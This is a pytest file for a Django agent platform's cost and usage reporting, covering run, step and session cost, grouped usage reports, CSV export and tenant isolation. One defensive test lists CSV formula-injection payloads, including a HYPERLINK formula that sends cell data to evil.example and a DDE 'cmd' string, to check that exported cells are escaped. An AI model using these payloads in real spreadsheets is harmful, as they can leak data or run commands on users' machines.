"""Cost of runs, steps and sessions, and the usage reports (issue 26): API, CSV, chat, timeline, dashboard."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from rest_framework.test import APIClient

from agents.models import DEFAULT_MODEL_NAMES, Agent, ModelProvider
from billing.costs import Cost, cost_label, money_text
from billing.models import ModelPrice
from sessions.models import Run, RunEvent, Session, Step
from sessions.tasks import execute_run
from tests.conftest import Cast
from tests.factories import field_values, make_agent
from tests.fake_model_server import FakeModelServer, Turn
from tests.test_planner import (
    PLANNER,
    SYNTHESIS,
    THREE_STEP_PLAN,
    drive,
    plan_turn,
    post,
    start_planning_session,
)
from tests.test_runs_api import TOOL_ROUND_TRIP, post_message, start_session

pytestmark = pytest.mark.django_db

# Credits per million tokens: 0.001 credit per input token, and so on.
PRICES = {
    "input_per_million": Decimal("1000"),
    "output_per_million": Decimal("2000"),
    "cache_read_per_million": Decimal("100"),
    "cache_write_per_million": Decimal("1250"),
}
# TOOL_ROUND_TRIP's usage (input, output, cache read, cache write): (20, 10, 5, 0) and (40, 8, 0, 3).
FIRST_CALL_MICROS = 20 * 1000 + 10 * 2000 + 5 * 100 + 0 * 1250  # 40_500
SECOND_CALL_MICROS = 40 * 1000 + 8 * 2000 + 0 * 100 + 3 * 1250  # 59_750


def set_price(provider: str, model: str) -> None:
    ModelPrice.objects.update_or_create(
        provider=provider, model=model, defaults={"as_of": date(2026, 11, 1), **PRICES}
    )


def login(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def usage(api: APIClient, **params: str) -> Any:
    return api.get("/api/v1/usage/", params)


def priced_tool_run(cast: Cast, bob_api: APIClient, fake_model: FakeModelServer) -> tuple[str, str]:
    agent = make_agent(tenant=cast.tenant_a, name="Calc", model_provider="anthropic", model_name="test-model")
    set_price("anthropic", "test-model")
    fake_model.script(*TOOL_ROUND_TRIP)
    session_id = start_session(bob_api, agent.pk)
    run_id = str(post_message(bob_api, session_id, "What is 6*7?")["run"]["id"])  # type: ignore[index]
    execute_run(run_id)
    return session_id, run_id


def test_a_priced_tool_runs_cost_is_its_tokens_times_the_prices_everywhere(
    cast: Cast, bob_api: APIClient, alice_api: APIClient, fake_model: FakeModelServer
) -> None:
    session_id, run_id = priced_tool_run(cast, bob_api, fake_model)
    assert FIRST_CALL_MICROS + SECOND_CALL_MICROS == 100_250

    run = bob_api.get(f"/api/v1/runs/{run_id}/").json()
    assert (run["status"], run["cost"], run["unpriced_model_calls"]) == ("completed", "0.100250", 0)
    assert (run["tree_cost"], run["tree_unpriced_model_calls"]) == (None, None)
    assert [(step["kind"], step["cost"]) for step in run["steps"]] == [
        ("model_call", "0.040500"),
        ("tool_call", None),
        ("model_call", "0.059750"),
    ]
    assert bob_api.get(f"/api/v1/sessions/{session_id}/").json()["cost"] == "0.100250"
    assert bob_api.get(f"/api/v1/sessions/{session_id}/").json()["unpriced_model_calls"] == 0
    completed = RunEvent.objects.get(run_id=run_id, type="run.completed").data
    assert (completed["cost"], completed["unpriced_model_calls"]) == ("0.100250", 0)

    today = datetime.now(UTC).date().isoformat()
    report = usage(alice_api, group_by="model", since=today, until=today).json()
    assert report == {
        "group_by": "model",
        "since": today,
        "until": today,
        "results": [
            {
                "key": "anthropic:test-model",
                "label": "anthropic:test-model",
                "runs": 1,
                "model_calls": 2,
                "input_tokens": 60,
                "output_tokens": 18,
                "cache_read_tokens": 5,
                "cache_write_tokens": 3,
                "cost": "0.100250",
                "unpriced_model_calls": 0,
            }
        ],
    }
    exported = usage(alice_api, group_by="model", since=today, until=today, format="csv")
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    assert exported["Content-Disposition"] == f'attachment; filename="usage-model-{today}-{today}.csv"'
    assert list(csv.reader(io.StringIO(exported.content.decode()))) == [
        [
            "key",
            "label",
            "runs",
            "model_calls",
            "input_tokens",
            "output_tokens",
            "cache_read_tokens",
            "cache_write_tokens",
            "cost",
            "unpriced_model_calls",
        ],
        ["anthropic:test-model", "anthropic:test-model", "1", "2", "60", "18", "5", "3", "0.100250", "0"],
    ]

    # $0.10025 shown with four places, rounded half up.
    chat = login(cast.bob).get(f"/chat/{session_id}/").content.decode()
    assert '<span class="small muted" data-slot="cost">$0.1003</span>' in chat
    timeline = login(cast.bob).get(f"/runs/{run_id}/").content.decode()
    assert '<p class="stat-value stat-small" data-run-cost>$0.1003</p>' in timeline
    assert timeline.count("data-step-cost>$0.0405<") == 1
    assert timeline.count("data-step-cost>$0.0598<") == 1  # 0.05975
    dashboard = login(cast.alice).get("/").content.decode()
    assert "<strong data-usage-total>$0.1003</strong>" in dashboard
    assert '<span class="muted small">$0.1003</span>' in dashboard  # the recent run
    assert '<th scope="row">Calc</th><td>$0.1003</td>' in dashboard  # cost per agent


def test_an_unknown_price_shows_price_unknown_never_zero(
    cast: Cast, bob_api: APIClient, fake_model: FakeModelServer
) -> None:
    agent = make_agent(tenant=cast.tenant_a, model_provider="anthropic", model_name="unpriced-model")
    fake_model.script(*TOOL_ROUND_TRIP)
    session_id = start_session(bob_api, agent.pk)
    run_id = str(post_message(bob_api, session_id, "What is 6*7?")["run"]["id"])  # type: ignore[index]
    execute_run(run_id)

    run = bob_api.get(f"/api/v1/runs/{run_id}/").json()
    assert (run["cost"], run["unpriced_model_calls"], run["model_calls"]) == (None, 2, 2)
    assert [step["cost"] for step in run["steps"]] == [None, None, None]
    assert bob_api.get(f"/api/v1/sessions/{session_id}/").json()["cost"] is None
    completed = RunEvent.objects.get(run_id=run_id, type="run.completed").data
    assert (completed["cost"], completed["unpriced_model_calls"]) == (None, 2)
    chat = login(cast.bob).get(f"/chat/{session_id}/").content.decode()
    assert '<span class="small muted" data-slot="cost">price unknown</span>' in chat
    timeline = login(cast.bob).get(f"/runs/{run_id}/").content.decode()
    assert '<p class="stat-value stat-small" data-run-cost>price unknown</p>' in timeline
    assert timeline.count("data-step-cost>price unknown<") == 2
    assert "$0.0000" not in chat + timeline


@pytest.mark.parametrize(
    ("cost", "label"),
    [
        (Cost(micros=4200, priced_calls=1), "$0.0042"),
        (Cost(micros=0, priced_calls=1), "$0.0000"),
        (Cost(), "$0.0000"),  # no model call at all
        (Cost(micros=12_500_000, priced_calls=3), "$12.50"),
        (Cost(micros=1_234_567_890, priced_calls=3), "$1,234.57"),
        (Cost(micros=999_940, priced_calls=1), "$0.9999"),
        (Cost(micros=20, priced_calls=1), "< $0.0001"),
        (Cost(unpriced_calls=2), "price unknown"),
        (Cost(micros=4200, priced_calls=1, unpriced_calls=1), "≥ $0.0042 (1 call without a price)"),
        (Cost(micros=4200, priced_calls=2, unpriced_calls=3), "≥ $0.0042 (3 calls without a price)"),
    ],
)
def test_cost_labels(cost: Cost, label: str) -> None:
    assert cost_label(cost) == label


def test_money_text_rounds_half_up_to_four_places_below_one_credit_and_two_above() -> None:
    assert (money_text(42_050), money_text(1_005_000), money_text(999_999)) == ("$0.0421", "$1.01", "$1.00")


DAY_ONE = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
DAY_TWO = datetime(2026, 3, 2, 0, 15, tzinfo=UTC)


def make_run(session: Session, *, user: Any, provider: str, model: str) -> Run:
    return Run.objects.create(
        tenant_id=session.tenant_id,
        session=session,
        agent=session.agent,
        created_by=user,
        agent_config={"model_provider": provider, "model_name": model},
        status="completed",
    )


def make_call(
    run: Run, *, index: int, at: datetime, tokens: tuple[int, int, int, int], cost: int | None, **fields: Any
) -> Step:
    input_tokens, output_tokens, cache_read, cache_write = tokens
    values: dict[str, Any] = {"kind": "model_call", "status": "completed", **fields}
    return Step.objects.create(
        run=run,
        tenant_id=run.tenant_id,
        index=index,
        finished_at=at,
        input_tokens=input_tokens,
        output_tokens=output_tokens,
        cache_read_tokens=cache_read,
        cache_write_tokens=cache_write,
        cost_micros=cost,
        **values,
    )


@pytest.fixture
def recorded_usage(cast: Cast) -> dict[str, Any]:
    """Tenant A: alice's run of Writer on model m1 (day one, two calls; day two, one call without a
    price), bob's run of Coder on m2 (day two); steps that do not count; tenant B: carol's run."""
    writer = make_agent(tenant=cast.tenant_a, name="Writer")
    coder = make_agent(tenant=cast.tenant_a, name="Coder")
    alice_session = Session.objects.create(tenant=cast.tenant_a, agent=writer, created_by=cast.alice)
    bob_session = Session.objects.create(tenant=cast.tenant_a, agent=coder, created_by=cast.bob)
    alice_run = make_run(alice_session, user=cast.alice, provider="anthropic", model="m1")
    bob_run = make_run(bob_session, user=cast.bob, provider="openai", model="m2")
    make_call(alice_run, index=0, at=DAY_ONE, tokens=(100, 10, 1, 2), cost=1_000)
    make_call(alice_run, index=1, at=DAY_ONE, tokens=(200, 20, 0, 0), cost=2_500)
    make_call(alice_run, index=2, at=DAY_TWO, tokens=(50, 5, 0, 0), cost=None)
    make_call(alice_run, index=3, at=DAY_TWO, tokens=(0, 0, 0, 0), cost=None, kind="tool_call")
    make_call(alice_run, index=4, at=DAY_TWO, tokens=(9, 9, 0, 0), cost=None, status="failed")
    make_call(bob_run, index=0, at=DAY_TWO, tokens=(30, 3, 0, 0), cost=7_000_000)
    carol_agent = make_agent(tenant=cast.tenant_b, name="Carol's")
    carol_session = Session.objects.create(tenant=cast.tenant_b, agent=carol_agent, created_by=cast.carol)
    carol_run = make_run(carol_session, user=cast.carol, provider="anthropic", model="m1")
    make_call(carol_run, index=0, at=DAY_ONE, tokens=(1000, 1000, 0, 0), cost=5_000)
    return {
        "writer": writer,
        "coder": coder,
        "alice_run": alice_run,
        "bob_run": bob_run,
        "carol_run": carol_run,
    }


def row(
    key: str,
    label: str,
    runs: int,
    calls: int,
    tokens: tuple[int, int, int, int],
    cost: str | None,
    unpriced: int,
) -> dict[str, Any]:
    return {
        "key": key,
        "label": label,
        "runs": runs,
        "model_calls": calls,
        "input_tokens": tokens[0],
        "output_tokens": tokens[1],
        "cache_read_tokens": tokens[2],
        "cache_write_tokens": tokens[3],
        "cost": cost,
        "unpriced_model_calls": unpriced,
    }


def report(api: APIClient, group_by: str, since: str = "2026-03-01", until: str = "2026-03-02") -> Any:
    response = usage(api, group_by=group_by, since=since, until=until)
    assert response.status_code == 200, response.content
    return response.json()["results"]


def test_usage_per_day_counts_model_calls_on_the_utc_day_they_finished(
    alice_api: APIClient, recorded_usage: dict[str, Any]
) -> None:
    assert report(alice_api, "day") == [
        row("2026-03-01", "2026-03-01", 1, 2, (300, 30, 1, 2), "0.003500", 0),
        row("2026-03-02", "2026-03-02", 2, 2, (80, 8, 0, 0), "7.000000", 1),
    ]
    assert report(alice_api, "day", since="2026-03-02", until="2026-03-02") == [
        row("2026-03-02", "2026-03-02", 2, 2, (80, 8, 0, 0), "7.000000", 1),
    ]


def test_usage_per_member_agent_and_model_dearest_first(
    cast: Cast, alice_api: APIClient, recorded_usage: dict[str, Any]
) -> None:
    writer, coder = recorded_usage["writer"], recorded_usage["coder"]
    assert report(alice_api, "member") == [
        row(str(cast.bob.pk), "bob@a.test", 1, 1, (30, 3, 0, 0), "7.000000", 0),
        row(str(cast.alice.pk), "alice@a.test", 1, 3, (350, 35, 1, 2), "0.003500", 1),
    ]
    assert report(alice_api, "agent") == [
        row(str(coder.pk), "Coder", 1, 1, (30, 3, 0, 0), "7.000000", 0),
        row(str(writer.pk), "Writer", 1, 3, (350, 35, 1, 2), "0.003500", 1),
    ]
    assert report(alice_api, "model") == [
        row("openai:m2", "openai:m2", 1, 1, (30, 3, 0, 0), "7.000000", 0),
        row("anthropic:m1", "anthropic:m1", 1, 3, (350, 35, 1, 2), "0.003500", 1),
    ]


def test_usage_of_calls_without_any_price_has_a_null_cost(
    alice_api: APIClient, recorded_usage: dict[str, Any]
) -> None:
    Step.objects.filter(run=recorded_usage["alice_run"], finished_at=DAY_ONE).update(cost_micros=None)
    assert report(alice_api, "day", until="2026-03-01") == [
        row("2026-03-01", "2026-03-01", 1, 2, (300, 30, 1, 2), None, 2),
    ]


@pytest.mark.parametrize("client_of", ["bob", "victor"])
def test_members_and_viewers_see_only_their_own_usage(
    cast: Cast, client_of: str, recorded_usage: dict[str, Any], request: pytest.FixtureRequest
) -> None:
    api = request.getfixturevalue(f"{client_of}_api")
    own = (
        [row(str(cast.bob.pk), "bob@a.test", 1, 1, (30, 3, 0, 0), "7.000000", 0)]
        if client_of == "bob"
        else []
    )
    assert report(api, "member") == own


def test_another_tenants_usage_is_never_counted_and_its_runs_are_404(
    cast: Cast, carol_api: APIClient, recorded_usage: dict[str, Any]
) -> None:
    alice_run = recorded_usage["alice_run"]
    before = [field_values(step) for step in Step.objects.order_by("id")]
    assert report(carol_api, "agent") == [
        row(str(Agent.objects.get(name="Carol's").pk), "Carol's", 1, 1, (1000, 1000, 0, 0), "0.005000", 0),
    ]
    assert report(carol_api, "member") == [
        row(str(cast.carol.pk), "carol@b.test", 1, 1, (1000, 1000, 0, 0), "0.005000", 0),
    ]
    assert carol_api.get(f"/api/v1/runs/{alice_run.pk}/").status_code == 404
    assert carol_api.get(f"/api/v1/sessions/{alice_run.session_id}/").status_code == 404
    assert [field_values(step) for step in Step.objects.order_by("id")] == before
    assert Run.objects.get(pk=alice_run.pk).cost_micros == 0


@pytest.mark.parametrize(
    ("params", "fields"),
    [
        ({"group_by": "week"}, {"group_by": ['"week" is not a valid choice.']}),
        (
            {"since": "2026-13-01"},
            {"since": ["Date has wrong format. Use one of these formats instead: YYYY-MM-DD."]},
        ),
        ({"since": "2026-03-02", "until": "2026-03-01"}, {"until": ["Must be on or after since."]}),
        ({"since": "2025-01-01", "until": "2026-01-02"}, {"until": ["The range may span at most 366 days."]}),
    ],
)
def test_bad_report_parameters_are_400_with_field_messages(
    alice_api: APIClient, params: dict[str, str], fields: dict[str, list[str]]
) -> None:
    for extra in ({}, {"format": "csv"}):
        response = usage(alice_api, **params, **extra)
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        assert response.json()["error"]["fields"] == fields


def test_a_range_of_366_days_is_allowed_and_the_default_is_the_last_30(alice_api: APIClient) -> None:
    assert usage(alice_api, since="2024-01-01", until="2024-12-31").status_code == 200
    body = usage(alice_api).json()
    today = datetime.now(UTC).date()
    assert (body["group_by"], body["since"], body["until"]) == (
        "day",
        (today - timedelta(days=29)).isoformat(),
        today.isoformat(),
    )


def test_the_csv_is_also_served_for_accept_text_csv(
    alice_api: APIClient, recorded_usage: dict[str, Any]
) -> None:
    response = alice_api.get(
        "/api/v1/usage/",
        {"group_by": "day", "since": "2026-03-02", "until": "2026-03-02"},
        HTTP_ACCEPT="text/csv",
    )
    assert response.status_code == 200
    assert response.content.decode().splitlines()[1:] == ["2026-03-02,2026-03-02,2,2,80,8,0,0,7.000000,1"]


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Plain = name", "Plain = name"),
    ],
)
def test_the_csv_quotes_cells_a_spreadsheet_would_read_as_a_formula(
    cast: Cast, alice_api: APIClient, recorded_usage: dict[str, Any], name: str, cell: str
) -> None:
    Agent.objects.filter(pk=recorded_usage["coder"].pk).update(name=name)

    response = usage(alice_api, group_by="agent", since="2026-03-02", until="2026-03-02", format="csv")

    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[1] == [str(recorded_usage["coder"].pk), cell, "1", "1", "30", "3", "0", "0", "7.000000", "0"]
    # The JSON report keeps the name as it is.
    json_rows = usage(alice_api, group_by="agent", since="2026-03-02", until="2026-03-02").json()["results"]
    assert json_rows[0]["label"] == name


@pytest.mark.django_db(transaction=True)  # executors run in threads, as the planner tests drive them
def test_a_plan_runs_tree_cost_includes_its_executors(
    cast: Cast, bob_api: APIClient, fake_model: FakeModelServer
) -> None:
    set_price("anthropic", DEFAULT_MODEL_NAMES[ModelProvider.ANTHROPIC])
    fake_model.script(plan_turn(THREE_STEP_PLAN, usage=(100, 50, 3, 0)), match=PLANNER)
    fake_model.script(Turn(text="one", usage=(11, 7, 1, 0)), match="Step s1:")
    fake_model.script(Turn(text="two", usage=(13, 9, 0, 2)), match="Step s2:")
    fake_model.script(Turn(text="three", usage=(17, 3, 0, 0)), match="Step s3:")
    fake_model.script(Turn(text="final", usage=(40, 20, 0, 5)), match=SYNTHESIS)
    session_id = start_planning_session(bob_api, cast)
    parent_id = post(bob_api, session_id, "Compare the populations of Paris and Rome.")

    drive(parent_id)

    planner, synthesis = 100_000 + 100_000 + 300, 40_000 + 40_000 + 6_250
    executors = (11_000 + 14_000 + 100) + (13_000 + 18_000 + 2_500) + (17_000 + 6_000)
    assert (planner + synthesis, executors) == (286_550, 81_600)
    detail = bob_api.get(f"/api/v1/runs/{parent_id}/").json()
    assert (detail["cost"], detail["tree_cost"], detail["tree_unpriced_model_calls"]) == (
        "0.286550",
        "0.368150",
        0,
    )
    completed = RunEvent.objects.get(run_id=parent_id, type="run.completed").data
    assert (completed["cost"], completed["tree_cost"], completed["tree_unpriced_model_calls"]) == (
        "0.286550",
        "0.368150",
        0,
    )
    assert bob_api.get(f"/api/v1/sessions/{session_id}/").json()["cost"] == "0.368150"
    chat = login(cast.bob).get(f"/chat/{session_id}/").content.decode()
    assert '<span class="small muted" data-slot="cost">$0.3682</span>' in chat
    timeline = login(cast.bob).get(f"/runs/{parent_id}/").content.decode()
    assert '<p class="stat-value stat-small" data-run-cost>$0.3682</p>' in timeline
    assert "with executors and sub-agents · own $0.2866" in timeline
